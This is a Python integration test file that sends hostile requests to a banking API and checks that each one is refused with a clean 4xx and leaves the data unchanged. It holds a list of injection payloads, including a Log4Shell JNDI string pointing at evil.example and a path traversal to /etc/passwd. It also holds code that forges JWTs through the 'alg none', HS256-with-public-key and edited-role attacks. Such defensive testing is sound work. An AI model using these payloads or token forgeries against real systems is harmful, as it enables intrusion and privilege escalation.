"""Hostile input against the deployed stack: every attempt is a clean 4xx with a stable code (never a 5xx,
never a stack trace), and the bank's tables hold exactly what they held before."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote

import jwt
import pytest
import requests
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import load_pem_private_key

from tests.integration.conftest import PIN, Bank, Customer, User
from tests.integration.parties import Party, key, make_party
from tools.api import Api
from tools.deploy import SECRET_PREFIX
from tools.secrets_bootstrap import read_secret

# Tables whose writes are synchronous with the request (the ledger's come later, asynchronously).
TABLES = (
    "IdentityUsersTable",
    "AccountsTable",
    "AccountsCardsTable",
    "AccountsLoansTable",
    "AccountsTicketsTable",
    "PaymentsPositionsTable",
    "PaymentsPaymentsTable",
    "PaymentsEntriesTable",
    "PaymentsHoldsTable",
)
INJECTIONS = [
    "' OR '1'='1",
    '"; DROP TABLE accounts; --',
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../../../etc/passwd",
    '{"$ne": null}',
    "\u0000\u202e",
]


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def counts(bank: Bank) -> dict[str, int]:
    dynamodb = bank.client("dynamodb")
    found: dict[str, int] = {}
    for logical_id in TABLES:
        total, start = 0, None
        while True:
            kwargs: dict[str, Any] = {"TableName": bank.physical_id(logical_id), "Select": "COUNT"}
            if start:
                kwargs["ExclusiveStartKey"] = start
            page = dynamodb.scan(**kwargs)
            total += page["Count"]
            start = page.get("LastEvaluatedKey")
            if not start:
                break
        found[logical_id] = total
    return found


@pytest.fixture(scope="module")
def victim(api: Api, customer: Callable[[], Customer]) -> Party:
    return make_party(api, customer)


@pytest.fixture
def unchanged(bank: Bank, api: Api, victim: Party) -> Iterator[list[str]]:
    """Snapshot before each attack; afterwards every count and balance must be the same."""
    before = counts(bank), api.get(f"/accounts/{victim.account}", token=victim.token).json()
    answers: list[str] = []
    yield answers
    after = counts(bank), api.get(f"/accounts/{victim.account}", token=victim.token).json()
    assert after[0] == before[0], "a hostile request wrote to a table"
    # Not available_balance: the victim's card hold expires (test TTL 15 s) and frees it meanwhile.
    for name in ("ledger_balance", "state"):
        assert after[1][name] == before[1][name], name


def refused(response: requests.Response, status: int, *codes: str) -> None:
    assert response.status_code == status, response.text
    assert "Traceback" not in response.text and 'File "' not in response.text
    if codes:
        assert response.headers["Content-Type"].startswith("application/problem+json"), response.headers
        assert response.json()["code"] in codes, response.text


def transfer_body(victim: Party, **changes: Any) -> dict[str, Any]:
    return {
        "from_account": victim.account,
        "to_account": victim.savings,
        "amount": 5_000,
        "pin": PIN,
        **changes,
    }


def test_oversized_bodies_are_413(api: Api, victim: Party, unchanged: list[str]) -> None:
    huge = transfer_body(victim, description="x" * 70_000)
    refused(api.post("/transfers", token=victim.token, json=huge, headers=key()), 413, "body_too_large")
    refused(api.post("/auth/register", json={"username": "a" * 80_000}), 413, "body_too_large")


def test_deep_json_is_refused(api: Api, victim: Party, unchanged: list[str]) -> None:
    # 5,000 levels parse (and fail the model); 30,000 (just under the 64 KiB limit) hit the parser's
    # recursion limit or are not an object: both a 400 problem, never a crashed function.
    deep = '{"a":' * 5_000 + "1" + "}" * 5_000
    response = api.post(
        "/transfers", token=victim.token, data=deep, headers={**key(), "Content-Type": "application/json"}
    )
    refused(response, 400, "validation_failed", "malformed_json")
    deeper = '{"amount":' + "[" * 30_000 + "]" * 30_000 + "}"
    for path in ("/auth/login", "/transfers"):
        response = api.post(
            path, token=victim.token, data=deeper, headers={**key(), "Content-Type": "application/json"}
        )
        refused(response, 400, "validation_failed", "malformed_json")


def test_invalid_utf8_and_non_objects_are_malformed(api: Api, victim: Party, unchanged: list[str]) -> None:
    headers = {**key(), "Content-Type": "application/json"}
    for raw in (b'{"amount": "\xff\xfe\xfd"}', b"\xc3\x28", b'"just a string"', b"[1,2]", b"{,}", b"nul"):
        response = api.post("/transfers", token=victim.token, data=raw, headers=headers)
        refused(response, 400, "malformed_json")


@pytest.mark.parametrize(
    "amount",
    [10**30, 10**15 + 1, -5_000, 0, 1.5, 5_000.0, "5000", True, None, [5_000], {"$gt": 0}, 1e308],
    ids=repr,
)
def test_bad_amounts_are_validation_failures(
    api: Api, victim: Party, unchanged: list[str], amount: Any
) -> None:
    response = api.post(
        "/transfers", token=victim.token, json=transfer_body(victim, amount=amount), headers=key()
    )
    refused(response, 400, "validation_failed")
    if amount is None:  # null captures the whole hold: not hostile, so it is not sent there
        return
    path = f"/card-authorizations/{victim.authorization_id}/capture"
    refused(api.post(path, token=victim.token, json={"amount": amount}), 400, "validation_failed")


def test_nan_and_infinity_are_not_json(api: Api, victim: Party, unchanged: list[str]) -> None:
    for literal in ("NaN", "Infinity", "-Infinity"):
        raw = json.dumps(transfer_body(victim, amount=0)).replace('"amount": 0', f'"amount": {literal}')
        response = api.post(
            "/transfers", token=victim.token, data=raw, headers={**key(), "Content-Type": "application/json"}
        )
        refused(response, 400, "malformed_json", "validation_failed")


@pytest.mark.parametrize("text", INJECTIONS, ids=range(len(INJECTIONS)))
def test_injection_shaped_strings_are_just_data(
    api: Api, victim: Party, unchanged: list[str], text: str
) -> None:
    login = api.post("/auth/login", json={"username": text, "password": text})
    assert login.status_code in (400, 401), login.text
    assert login.json()["code"] in ("validation_failed", "invalid_credentials")
    quoted = quote(text, safe="")
    for path in (f"/accounts/{quoted}", f"/transfers/{quoted}", f"/loans/{quoted}", f"/tickets/{quoted}"):
        response = api.get(path, token=victim.token)
        assert response.status_code in (400, 403, 404), (path, response.text)
        assert response.status_code < 500
    body = transfer_body(victim, to_account=text)
    refused(api.post("/transfers", token=victim.token, json=body, headers=key()), 400, "validation_failed")
    search = api.get(f"/staff/accounts?q={quoted}", token=victim.token)
    refused(search, 403, "forbidden")
    refused(api.get(f"/accounts?limit={quoted}", token=victim.token), 400, "invalid_request")
    refused(api.get(f"/accounts?cursor={quoted}", token=victim.token), 400, "invalid_cursor")


@pytest.mark.parametrize(
    "content_type",
    # (multipart is left out: the local gateway refuses it with an empty 400 before any function runs.)
    ["text/plain", "application/xml", "application/x-www-form-urlencoded", "application/json-patch+json"],
)
def test_wrong_content_types_are_415(
    api: Api, victim: Party, unchanged: list[str], content_type: str
) -> None:
    raw = json.dumps(transfer_body(victim))
    response = api.post(
        "/transfers", token=victim.token, data=raw, headers={**key(), "Content-Type": content_type}
    )
    refused(response, 415, "unsupported_media_type")


def test_unknown_fields_are_refused(api: Api, victim: Party, unchanged: list[str]) -> None:
    body = transfer_body(victim, owner_id="someone-else", status="completed")
    refused(api.post("/transfers", token=victim.token, json=body, headers=key()), 400, "validation_failed")


# ------------------------------------------------------------------ tokens


def _claims(user: User) -> tuple[dict[str, Any], dict[str, Any]]:
    return jwt.get_unverified_header(user.access_token), jwt.decode(
        user.access_token, options={"verify_signature": False}
    )


def _sign_hs256(header: dict[str, Any], claims: dict[str, Any], secret: bytes) -> str:
    head = b64(json.dumps({**header, "alg": "HS256"}).encode())
    body = b64(json.dumps(claims).encode())
    signature = hmac.new(secret, f"{head}.{body}".encode(), hashlib.sha256).digest()
    return f"{head}.{body}.{b64(signature)}"


def forged_tokens(bank: Bank, user: User) -> dict[str, str]:
    header, claims = _claims(user)
    keys = read_secret(bank.client("secretsmanager"), f"{SECRET_PREFIX}/identity/signing-keys")
    active = next(k for k in keys["keys"] if k["kid"] == keys["active_kid"])
    private = load_pem_private_key(active["private_pem"].encode(), password=None)
    assert isinstance(private, Ed25519PrivateKey), "the bank signs with Ed25519 keys"
    now = int(time.time())

    def signed(**changes: Any) -> str:
        return jwt.encode(
            {**claims, **changes},
            private,
            algorithm="EdDSA",
            headers={k: v for k, v in header.items() if k != "alg"},
        )

    unsigned = f"{b64(json.dumps({**header, 'alg': 'none'}).encode())}.{b64(json.dumps(claims).encode())}."
    head, _body, signature = user.access_token.split(".")
    promoted = b64(json.dumps({**claims, "role": "admin"}).encode())
    return {
        "alg none": unsigned,
        "HS256 with the public key": _sign_hs256(header, claims, active["public_pem"].encode()),
        "expired": signed(exp=now - 60, iat=now - 1_000),
        "wrong audience": signed(aud="someone-else"),
        "wrong issuer": signed(iss="https://evil.example"),
        "unknown key id": jwt.encode(claims, private, algorithm="EdDSA", headers={**header, "kid": "nope"}),
        "role edited, old signature": f"{head}.{promoted}.{signature}",
        "garbage": "not.a.jwt",
        "empty bearer": "",
    }


def test_forged_tokens_are_401(bank: Bank, api: Api, victim: Party, unchanged: list[str]) -> None:
    for name, token in forged_tokens(bank, victim.user).items():
        for method, path, body in (
            ("GET", f"/accounts/{victim.account}", None),
            ("GET", "/staff/dashboard", None),
            ("POST", "/transfers", transfer_body(victim)),
        ):
            response = api.session.request(
                method,
                api.base_url + path,
                json=body,
                headers={"Authorization": f"Bearer {token}", **key()},
                timeout=30,
            )
            assert response.status_code == 401, (name, path, response.status_code, response.text)


def test_replayed_refresh_token_is_refused_and_kills_the_family(
    api: Api, victim: Party, unchanged: list[str]
) -> None:
    first = api.post("/auth/refresh", json={"refresh_token": victim.second_refresh})
    assert first.status_code == 200, first.text
    replay = api.post("/auth/refresh", json={"refresh_token": victim.second_refresh})
    refused(replay, 401, "refresh_token_reused", "invalid_refresh_token")
    rotated = api.post("/auth/refresh", json={"refresh_token": first.json()["refresh_token"]})
    refused(rotated, 401, "refresh_token_reused", "invalid_refresh_token")


def test_a_replayed_transfer_moves_money_once(api: Api, customer: Callable[[], Customer]) -> None:
    payer, payee = customer(), customer()
    body = {"from_account": payer.account, "to_account": payee.account, "amount": 7_000, "pin": PIN}
    headers = key()
    first = api.post("/transfers", token=payer.token, json=body, headers=headers)
    assert first.status_code == 201, first.text
    for _ in range(3):
        again = api.post("/transfers", token=payer.token, json=body, headers=headers)
        assert again.status_code == 201 and again.headers.get("Idempotency-Replayed") == "true", again.text
        assert again.json()["payment_id"] == first.json()["payment_id"]
    changed = api.post("/transfers", token=payer.token, json={**body, "amount": 8_000}, headers=headers)
    refused(changed, 422, "idempotency_key_reused")
    balance = api.get(f"/accounts/{payer.account}", token=payer.token).json()["ledger_balance"]
    assert balance == 100_000 - 7_000
